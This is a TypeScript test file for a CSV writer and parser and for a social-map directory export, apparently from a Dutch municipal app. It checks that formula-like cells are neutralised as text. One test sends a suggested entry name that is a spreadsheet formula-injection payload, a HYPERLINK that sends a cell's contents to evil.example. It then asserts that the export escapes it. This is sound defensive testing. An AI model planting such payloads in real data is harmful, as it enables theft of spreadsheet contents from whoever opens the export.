import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import fc from "fast-check";
import { buildDirectoryEntry } from "../../modules/directory/directory.factories.ts";
import { createTestApp, logInAs, type TestApp } from "../../test/app.ts";
import { buildMunicipality, buildOrganisation, buildUser } from "../../test/factories.ts";
import { neutraliseFormula, parseCsvRows, restoreNeutralised, writeCsv } from "./csv.ts";

/** Issue 18: one CSV library for parsing and writing; no cell written can run as a formula. */
describe("the CSV library", () => {
  test("every text cell that starts like a formula is written as text", () => {
    const csv = writeCsv(
      [
        [
          '=HYPERLINK("http://x","klik")',
          "+31 6 123",
          "-2+3",
          "@SUM(A1)",
          "\tx",
          " =1+1",
          "gewoon",
          -4,
          true,
          null,
        ],
      ],
      { delimiter: ";" },
    );
    const [row] = parseCsvRows(csv, ";");
    assert.deepEqual(row, [
      '\'=HYPERLINK("http://x","klik")',
      "'+31 6 123",
      "'-2+3",
      "'@SUM(A1)",
      "'\tx",
      "' =1+1",
      "gewoon",
      "-4",
      "ja",
      "",
    ]);
  });

  test("what it writes, it parses back unchanged (separators, quotes, line breaks, spaces, BOM)", () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(fc.string({ maxLength: 12 }), { minLength: 2, maxLength: 5 }), {
          minLength: 1,
          maxLength: 6,
        }),
        fc.constantFrom<"," | ";">(",", ";"),
        (rows, delimiter) => {
          const parsed = parseCsvRows(writeCsv(rows, { delimiter }), delimiter).map((r) =>
            r.map(restoreNeutralised),
          );
          const expected = rows.filter((r) => !(r.length === 1 && r[0]?.trim() === ""));
          assert.deepEqual(parsed, expected);
        },
      ),
    );
    assert.equal(neutraliseFormula("3 - 4"), "3 - 4", "only the start counts");
  });

  test("an unclosed quote is a syntax error with its line, not a silent merge", () => {
    assert.throws(() => parseCsvRows('a,b\n"open,c\n', ","), /aanhalingsteken/);
  });
});

describe("formula injection through the social map", () => {
  let t: TestApp;
  before(async () => {
    t = await createTestApp();
  });
  after(() => t.close());

  test("a suggested entry named =HYPERLINK(…) comes out of the export as text", async () => {
    const db = t.database.db;
    const m = await buildMunicipality(db, { code: "GM0344", name: "Utrecht" });
    const org = await buildOrganisation(db, m.id);
    const professional = await buildUser(db, m.id, { role: "professional", organisationId: org.id });
    const admin = await buildUser(db, m.id, { role: "administrator", organisationId: org.id });
    const entry = await buildDirectoryEntry(db, m.id, { name: "Koffieochtend" });
    const name = '=HYPERLINK("http://evil.example/?d="&A1,"Klik hier")';
    const pro = await logInAs(t.app, professional.username);
    const suggested = await pro.post("/api/directory/suggestions", {
      entryId: entry.id,
      changes: { name, description: "+31 6 0000 0000 — bel ons voor informatie over deze voorziening." },
      note: "Nieuwe naam",
    });
    assert.equal(suggested.statusCode, 201, suggested.body);
    const adminClient = await logInAs(t.app, admin.username);
    const approved = await adminClient.post(`/api/directory/suggestions/${suggested.json().id}/approve`, {});
    assert.equal(approved.statusCode, 200, approved.body);
    for (const [separator, name_] of [
      [",", "comma"],
      [";", "semicolon"],
    ] as const) {
      const exported = await adminClient.get(`/api/directory/export?separator=${name_}`);
      assert.equal(exported.statusCode, 200, exported.body);
      const rows = parseCsvRows(exported.body, separator);
      const cells = rows.flat();
      assert.ok(cells.includes(`'${name}`), `the name is neutralised (${separator})`);
      assert.ok(
        cells.some((c) => c.startsWith("'+31 6")),
        "the description too",
      );
      assert.ok(!cells.some((c) => /^[=+\-@]/.test(c)), "no cell starts like a formula");
    }
  });
});
